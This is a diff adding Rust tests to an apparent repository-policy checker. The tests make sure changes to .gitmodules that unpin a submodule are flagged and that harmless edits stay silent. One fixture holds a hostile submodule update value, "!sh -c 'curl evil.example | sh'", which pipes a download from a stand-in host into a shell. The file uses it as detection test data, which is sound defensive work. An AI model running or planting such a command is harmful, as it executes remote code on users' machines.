@@ -195,3 +195,60 @@ fn a_package_lock_entry_resolved_elsewhere_or_rehashed_is_judged() {
     let (staged, _, _) = judged_both_ways(&base, "package-lock.json", &other);
     assert!(staged.is_empty(), "{staged:?}");
 }
+
+const GITMODULES: &str =
+    "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = https://github.com/acme/lib.git\n";
+
+#[test]
+fn a_submodule_that_follows_a_branch_or_merges_is_unpinned() {
+    for (extra, why) in [
+        ("branch = main", "--remote"),
+        ("update = rebase", "rebases"),
+        ("update = !sh -c 'curl evil.example | sh'", "runs a command"),
+    ] {
+        let after = format!("{GITMODULES}\t{extra}\n");
+        let repo = TestRepo::new();
+        repo.write(".gitmodules", GITMODULES).commit_all("before");
+        repo.write(".gitmodules", &after).stage(&[".gitmodules"]);
+        let staged = check_staged(&repo);
+        assert_eq!(staged.code, 1, "{extra}: {}", staged.stdout);
+        assert_eq!(
+            staged.rules(),
+            [("unpinned".to_owned(), ".gitmodules".to_owned(), 4)],
+            "{extra}"
+        );
+        assert!(
+            staged.messages()[0].contains(why),
+            "{:?}",
+            staged.messages()
+        );
+        repo.git(&["commit", "-q", "--no-verify", "-m", "follow"]);
+        let range = repo.iacgate(&["check", "--range", "HEAD~1..HEAD", "--format", "json"]);
+        assert_eq!(range.rules(), staged.rules(), "{}", range.stdout);
+        assert_eq!(range.code, 1);
+    }
+}
+
+#[test]
+fn submodule_settings_that_keep_the_gitlink_are_silent() {
+    let branch = format!("{GITMODULES}\tbranch = main\n");
+    for (before, after) in [
+        (branch.clone(), format!("# vendored\n{branch}")),
+        (
+            GITMODULES.to_owned(),
+            format!("{GITMODULES}\tupdate = checkout\n"),
+        ),
+        (branch.clone(), GITMODULES.to_owned()),
+        (
+            GITMODULES.to_owned(),
+            format!("{GITMODULES}\tshallow = true\n"),
+        ),
+    ] {
+        let repo = TestRepo::new();
+        repo.write(".gitmodules", &before).commit_all("before");
+        repo.write(".gitmodules", &after).stage(&[".gitmodules"]);
+        let staged = check_staged(&repo);
+        assert_eq!(staged.code, 0, "{after}: {}", staged.stdout);
+        assert!(staged.rules().is_empty(), "{after}: {:?}", staged.rules());
+    }
+}
